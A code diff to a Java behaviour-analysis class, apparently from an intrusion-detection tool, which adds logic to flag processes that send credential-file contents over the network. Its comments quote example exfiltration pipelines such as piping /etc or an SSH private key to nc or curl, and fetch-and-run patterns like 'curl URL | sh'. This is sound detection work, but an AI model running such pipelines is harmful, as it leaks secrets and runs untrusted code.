@@ -40,6 +40,8 @@ final class BehaviourAccumulator implements FeatureAccumulator {
     private static final int MAX_COUNT = 1 << 20;
     /** Pipes a fork node remembers as carrying network data: the last few, for the pipelines of one family. */
     private static final int ONLINE_PIPES = 4;
+    /** Pipes a fork node remembers as carrying what a secret-reading member wrote ({@link ForkNode#addSecretPipe}). */
+    private static final int SECRET_PIPES = 2;
     /** The fork nodes a process shares with its family: its parent's (level 0), its grandparent's and great-grandparent's. */
     private static final int LEVELS_ABOVE = 3;
     /** How much of a shell's first read of a pipe {@link #fetchedText} keeps: all that {@code -s 256} prints. */
@@ -230,6 +232,12 @@ final class BehaviourAccumulator implements FeatureAccumulator {
      * namespace than strace, {@code -yy} decorates its sockets with their inode only.
      */
     private int metadataFd = -1;
+    /** It opened a credential file for reading, even where that was no indicator (a backup walking /etc): its output is secret. */
+    private boolean readSecret;
+    /** Its stdout pipe was published as secret ({@link #publishSecretPipe()}). */
+    private boolean secretPublished;
+    /** {@link #secretToNetwork} fired (once). */
+    private boolean exfiltrationNoted;
     /**
      * The descriptor a shell opened from {@code /dev/fd/N} or {@code /proc/self/fd/N} until its first read, dup or
      * close ({@code source <(curl URL)} reads it; {@code done < <(cmd)} dups it onto 0 first); -1 for none.
@@ -1167,6 +1175,7 @@ final class BehaviourAccumulator implements FeatureAccumulator {
                     fetchedBeforeConnect();
                 }
                 connectedInet = true;
+                secretToNetwork(e); // it may connect after its first read of stdin
                 markInetFd(Arguments.fd(e.arguments()));
                 if (handTool && Indicators.metadataEndpoint(where)) {
                     metadataFd = Arguments.fd(e.arguments());
@@ -1286,6 +1295,7 @@ final class BehaviourAccumulator implements FeatureAccumulator {
                 stdinPipe = pipeInode(Arguments.fdDecoration(fdArg)); // a pipe it inherited: its read shows it
             }
             stdinOwn = true;
+            secretToNetwork(e);
             if (programFromStdin && !programReadNoted) {
                 programReadNoted = true;
                 note(EvidenceLog.MEDIUM, e, e.arguments()); // what curl URL | sh, sh < x.sh ran: the start of its program
@@ -1295,6 +1305,7 @@ final class BehaviourAccumulator implements FeatureAccumulator {
                 stdoutPipe = pipeInode(Arguments.fdDecoration(fdArg));
             }
             publishOnlinePipe(); // curl | base64 -d | sh: the middle one once its input proved to be online
+            publishSecretPipe();
         }
     }
 
@@ -1543,6 +1554,43 @@ final class BehaviourAccumulator implements FeatureAccumulator {
             ForkNode n = above(i);
             if (n != null) {
                 n.addOnlinePipe(stdoutPipe);
+            }
+        }
+    }
+
+    /** Once it read a secret file: its stdout pipe, once known, carries secrets for its family's readers. */
+    private void publishSecretPipe() {
+        if (!readSecret || secretPublished || stdoutPipe == 0) {
+            return;
+        }
+        secretPublished = true;
+        for (int i = 0; i < LEVELS_ABOVE; i++) {
+            ForkNode n = above(i);
+            if (n != null) {
+                n.addSecretPipe(stdoutPipe);
+            }
+        }
+    }
+
+    /**
+     * A process holding an inet connection that reads its stdin from a pipe a secret-reading member of its family
+     * writes into: {@code tar czf - /etc | nc HOST PORT}, {@code cat ~/.ssh/id_rsa | curl -T - URL} (T1048, T1552);
+     * not a transfer or backup client (ssh, rsync, aws, rclone, restic, borg, ...)
+     */
+    private void secretToNetwork(TraceEvent e) {
+        if (exfiltrationNoted || !connectedInet || stdinPipe == 0 || Indicators.transferClient(exeBase)) {
+            return;
+        }
+        for (int i = 0; i < LEVELS_ABOVE; i++) {
+            ForkNode n = above(i);
+            if (n != null && n.hasSecretPipe(stdinPipe)) {
+                exfiltrationNoted = true;
+                set(Feature.IND_CREDENTIAL_READ);
+                log().add(EvidenceLog.HIGH, "its stdin is a pipe a family member that read a secret file writes into: pipe:[" + stdinPipe + "]");
+                if (e != null) {
+                    note(EvidenceLog.HIGH, e, e.arguments());
+                }
+                return;
             }
         }
     }
@@ -1836,6 +1884,10 @@ final class BehaviourAccumulator implements FeatureAccumulator {
         }
         boolean secret = (bits & PathRules.SHADOW) != 0 || Indicators.credentialStore(path) || Indicators.privateKey(path)
                 || (bits & PathRules.PROC_OTHER) != 0 && path.endsWith("/environ") && !Indicators.Role.PROCESS_VIEWER.of(exeBase);
+        if ((secret || Indicators.workloadSecret(path)) && !directory && !readSecret) {
+            readSecret = true; // tar czf - /etc | nc HOST PORT: a backup's read, but its output must not go online
+            publishSecretPipe();
+        }
         if (secret && !directory && !Indicators.Role.ACCOUNT.of(exeBase) && !Indicators.Role.SSH.of(exeBase) && !walkedInto(path)
                 && !((bits & PathRules.SHADOW) != 0 && installedPerlProgram()) && !Indicators.storeClient(path, exeBase)) {
             set(Feature.IND_CREDENTIAL_READ);
@@ -2323,6 +2375,32 @@ final class BehaviourAccumulator implements FeatureAccumulator {
      * references, so a process keeps at most {@link #FORK_STORM_CHAIN} + 2 of them alive, however deep the tree. Written by the owner, by members of its storm
      * run and by its ending children, read by its descendants, all on the tracker's thread.
      */
+    /** The last few pipe inodes (non-zero) a fork node was told of, the newest replacing the oldest. */
+    static final class PipeRing {
+        private final long[] inodes;
+        private int next;
+
+        PipeRing(int size) {
+            inodes = new long[size];
+        }
+
+        void add(long inode) {
+            if (!has(inode)) {
+                inodes[next] = inode;
+                next = (next + 1) % inodes.length;
+            }
+        }
+
+        boolean has(long inode) {
+            for (long p : inodes) {
+                if (p == inode) {
+                    return true;
+                }
+            }
+            return false;
+        }
+    }
+
     static final class ForkNode {
         private int alive;
         private int maxAlive;
@@ -2334,30 +2412,31 @@ final class BehaviourAccumulator implements FeatureAccumulator {
         private int replacedBelow;
         /** A process holding this node connected to, or accepted from, an inet address ({@link #familyOnline()}). */
         private boolean online;
-        /** The last few pipes (inodes) its family wrote network data into ({@link #publishOnlinePipe()}); null while none. */
-        private long[] onlinePipes;
-        private int nextOnlinePipe;
+        /** The last few pipes its family wrote network data into ({@link #publishOnlinePipe()}); null while none. */
+        private PipeRing onlinePipes;
+        /** The last few pipes a member of its family that read a secret file writes into ({@link #publishSecretPipe()}). */
+        private PipeRing secretPipes;
 
         void addOnlinePipe(long inode) {
-            if (hasOnlinePipe(inode)) {
-                return;
-            }
             if (onlinePipes == null) {
-                onlinePipes = new long[ONLINE_PIPES];
+                onlinePipes = new PipeRing(ONLINE_PIPES);
             }
-            onlinePipes[nextOnlinePipe] = inode;
-            nextOnlinePipe = (nextOnlinePipe + 1) % ONLINE_PIPES;
+            onlinePipes.add(inode);
         }
 
         boolean hasOnlinePipe(long inode) {
-            if (onlinePipes != null) {
-                for (long p : onlinePipes) {
-                    if (p == inode) {
-                        return true;
-                    }
-                }
+            return onlinePipes != null && onlinePipes.has(inode);
+        }
+
+        void addSecretPipe(long inode) {
+            if (secretPipes == null) {
+                secretPipes = new PipeRing(SECRET_PIPES);
             }
-            return false;
+            secretPipes.add(inode);
+        }
+
+        boolean hasSecretPipe(long inode) {
+            return secretPipes != null && secretPipes.has(inode);
         }
 
         void childEnded(long[][] made) {
